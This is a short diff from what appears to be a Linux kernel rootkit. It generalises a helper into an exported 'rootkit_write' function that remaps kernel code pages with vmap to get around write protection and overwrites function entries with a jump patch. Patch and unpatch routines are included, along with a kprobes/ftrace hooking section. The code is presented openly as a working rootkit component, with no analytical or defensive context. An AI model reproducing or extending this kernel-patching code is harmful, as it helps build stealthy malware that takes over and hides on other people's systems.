@@ -97,14 +97,14 @@ static void give_call_back(void)
 
 static u8 old_code[PATCH];
 
-static int write_code(void *at, const u8 *code)
+int rootkit_write(void *at, const void *bytes, size_t size)
 {
-	struct page *pages[2] = { virt_to_page(at), virt_to_page(at + PATCH - 1) };
+	struct page *pages[2] = { virt_to_page(at), virt_to_page(at + size - 1) };
 	void *alias = vmap(pages, 2, VM_MAP, PAGE_KERNEL);
 
 	if (!alias)
 		return -ENOMEM;
-	memcpy(alias + offset_in_page(at), code, PATCH);
+	memcpy(alias + offset_in_page(at), bytes, size);
 	vunmap(alias);
 	return 0;
 }
@@ -125,12 +125,12 @@ static int patch(void)
 
 	memcpy(code + 1, &offset, sizeof(offset));
 	memcpy(old_code, at, PATCH);
-	return write_code(at, code);
+	return rootkit_write(at, code, PATCH);
 }
 
 static void unpatch(void)
 {
-	WARN_ON(write_code(behind_entry(), old_code));
+	WARN_ON(rootkit_write(behind_entry(), old_code, PATCH));
 }
 
 /* ---- kprobes: at its entry, which is ftrace's, and where there is no such place ---- */
